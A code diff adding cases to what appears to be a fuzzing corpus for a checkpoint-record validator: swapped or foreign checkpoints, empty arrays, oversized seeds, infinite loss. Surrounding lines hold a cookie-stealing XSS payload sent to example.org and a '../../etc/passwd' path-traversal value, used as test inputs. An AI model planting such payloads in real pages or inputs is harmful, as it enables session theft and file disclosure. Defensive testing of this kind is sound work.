@@ -345,6 +345,21 @@ def nearly_copies(folder: Path) -> None:
         (folder / f"{i}.json").write_text(text + " " * i)
 
 
+def swapped(folder: Path) -> None:
+    """The arrays under the name of the checkpoint and the other way round, as the record says."""
+    one, other = (folder / f"{TARGET}{suffix}" for suffix in (".npz", ".safetensors"))
+    one.rename(folder / "kept")
+    other.rename(one)
+    (folder / "kept").rename(other)
+    edit_record(folder / f"{TARGET}.json", lambda record: None)
+
+
+def of_another_run(folder: Path) -> None:
+    """The checkpoint of another task's run."""
+    (folder / f"{TARGET}.safetensors").write_bytes((folder / f"{HONEST['1.2.1']}.safetensors").read_bytes())
+    edit_record(folder / f"{TARGET}.json", lambda record: None)
+
+
 SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
 CORPUS: dict[str, Callable[[Path], None]] = {
     # checkpoints
@@ -366,6 +381,8 @@ CORPUS: dict[str, Callable[[Path], None]] = {
     "long-record": text(lambda t: t[:-1] + " " * 60_000_000 + t[-1]), "surrogates": text(
         lambda t: t.replace(TARGET, "\\ud800" + TARGET)),
     "bom": lambda folder: (folder / f"{TARGET}.json").write_bytes(b"\xff\xfe{}"),
+    "endless-seed": text(lambda t: t.replace('"seed": 0', f'"seed": {"1" * 5000}', 1)),
+    "infinite-loss": text(lambda t: t.replace('"train_loss": ', '"train_loss": Infinity, "x": ', 1)),
     "unknown-field": run_field(extra=1), "negative-seed": run_field(seed=-1), "script-in-method": run_field(
         method=SCRIPT), "script-in-argv": run_field(argv=["_main.py", SCRIPT]), "wrong-task": run_field(task="1.2.9"),
     "path-as-dataset": run_field(dataset="../../etc/passwd"), "folder-as-dataset": run_field(dataset="folder-x-1234"),
@@ -380,6 +397,8 @@ CORPUS: dict[str, Callable[[Path], None]] = {
     "other-encoder": field(encoder="vit"),
     "script-in-recipe": field(pooling=SCRIPT),
     # arrays
+    "swapped-artifacts": swapped, "checkpoint-of-another-run": of_another_run, "empty-arrays": lambda folder: [
+        (folder / f"{TARGET}.npz").write_bytes(b""), edit_record(folder / f"{TARGET}.json", lambda record: None)],
     "pickled-arrays": pickled_arrays, "array-bomb": bomb_of_arrays, "arrays-gone": only(
         *(f"{TARGET}{suffix}" for suffix in (".json", ".safetensors"))),
     "array-too-many": arrays(lambda kept: kept.update(backdoor=np.zeros(3))),
